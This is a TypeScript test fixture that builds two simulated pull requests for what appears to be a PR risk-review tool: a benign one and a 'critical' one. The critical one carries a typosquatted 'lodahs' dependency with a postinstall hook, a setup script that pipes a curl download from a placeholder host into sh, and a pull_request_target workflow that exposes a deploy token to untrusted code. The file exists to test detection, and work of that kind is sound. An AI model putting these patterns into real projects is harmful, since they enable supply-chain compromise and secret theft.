import { makePrFixture, type PrFixture } from '../support/pr-fixture.js';

/**
 * Pull requests for the browser suite and scripts/screenshots.ts: a calm one (low risk, approve)
 * and an alarming one (a typosquatted dependency that runs an install script, and a
 * pull_request_target workflow that checks out the PR's code: critical).
 */

const pkg = (dependencies: Record<string, string>, scripts: Record<string, string> = { build: 'tsc -p .', test: 'vitest run' }) =>
  `${JSON.stringify({ name: 'widgets', version: '2.4.0', private: true, scripts, dependencies }, null, 2)}\n`;

const lock = (packages: Record<string, { version: string; hasInstallScript?: boolean }>, dependencies: Record<string, string>) =>
  `${JSON.stringify(
    {
      name: 'widgets',
      version: '2.4.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'widgets', version: '2.4.0', dependencies },
        ...Object.fromEntries(Object.entries(packages).map(([name, p]) => [`node_modules/${name}`, { version: p.version, resolved: `https://registry.npmjs.org/${name}/-/${name}-${p.version}.tgz`, integrity: 'sha512-AAAA', ...(p.hasInstallScript === true ? { hasInstallScript: true } : {}) }])),
      },
    },
    null,
    2,
  )}\n`;

const BASE_DEPS = { express: '^5.1.0', zod: '^4.0.0' };
const BASE_PACKAGES = { express: { version: '5.1.0' }, zod: { version: '4.0.5' } };

const PR_TARGET_WORKFLOW = `name: preview
on:
  pull_request_target:
    types: [opened, synchronize]
permissions:
  contents: write
  pull-requests: write
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
      - run: ./scripts/deploy-preview.sh
        env:
          DEPLOY_TOKEN: \${{ secrets.DEPLOY_TOKEN }}
`;

/** ISO timestamp `days` before `now`, to the second: fixtures stay fresh whenever they run. */
function daysBefore(now: Date, days: number): string {
  return new Date(now.getTime() - days * 86_400_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

const SESSION_BASE = Array.from({ length: 40 }, (_, i) => `export const line${i} = ${i};`).join('\n');

export function criticalPrFixture(now = new Date()): PrFixture {
  return makePrFixture({
    owner: 'acme',
    repo: 'widgets',
    number: 1337,
    title: 'Speed up session lookups and add a preview workflow',
    author: { login: 'fast-fixer', createdAt: daysBefore(now, 19), association: 'FIRST_TIME_CONTRIBUTOR', publicRepos: 1, followers: 0 },
    fork: true,
    headBranch: 'perf/sessions',
    createdAt: daysBefore(now, 2),
    files: [
      { path: 'package.json', base: pkg(BASE_DEPS), head: pkg({ ...BASE_DEPS, lodahs: '^1.0.2' }, { build: 'tsc -p .', test: 'vitest run', postinstall: 'node scripts/setup.js' }) },
      { path: 'package-lock.json', base: lock(BASE_PACKAGES, BASE_DEPS), head: lock({ ...BASE_PACKAGES, lodahs: { version: '1.0.2', hasInstallScript: true } }, { ...BASE_DEPS, lodahs: '^1.0.2' }) },
      { path: '.github/workflows/preview.yml', head: PR_TARGET_WORKFLOW },
      { path: 'src/auth/session.ts', base: SESSION_BASE, head: `${SESSION_BASE.replace('export const line3 = 3;', "import { memo } from 'lodahs';\nexport const line3 = memo(3);")}\nexport const cacheSessions = true;\n` },
      { path: 'scripts/setup.js', head: "const { execSync } = require('node:child_process');\nexecSync('curl -s https://example.invalid/s | sh');\n" },
      { path: 'test/auth/session.test.ts', status: 'removed', deletions: 64 },
    ],
    commits: [{ message: 'perf: cache sessions' }, { message: 'ci: preview deployments' }],
    checkRuns: [{ name: 'build' }, { name: 'test', conclusion: 'failure' }, { name: 'lint' }],
    priorPrs: { total: 1, merged: 0 },
  });
}

export function lowRiskPrFixture(now = new Date()): PrFixture {
  return makePrFixture({
    owner: 'acme',
    repo: 'widgets',
    number: 58,
    title: 'Format durations with Intl.RelativeTimeFormat',
    author: { login: 'mona', createdAt: '2014-02-11T10:00:00Z', association: 'MEMBER', name: 'Mona Lisa', publicRepos: 40, followers: 120 },
    headBranch: 'feat/relative-durations',
    createdAt: daysBefore(now, 2),
    files: [
      { path: 'src/lib/durations.ts', additions: 14, deletions: 5 },
      { path: 'test/lib/durations.test.ts', additions: 26, deletions: 2 },
      { path: 'docs/formatting.md', additions: 4, deletions: 1 },
    ],
    commits: 2,
    checkRuns: [{ name: 'build' }, { name: 'test' }, { name: 'lint' }, { name: 'typecheck' }],
    priorPrs: { total: 64, merged: 61 },
  });
}
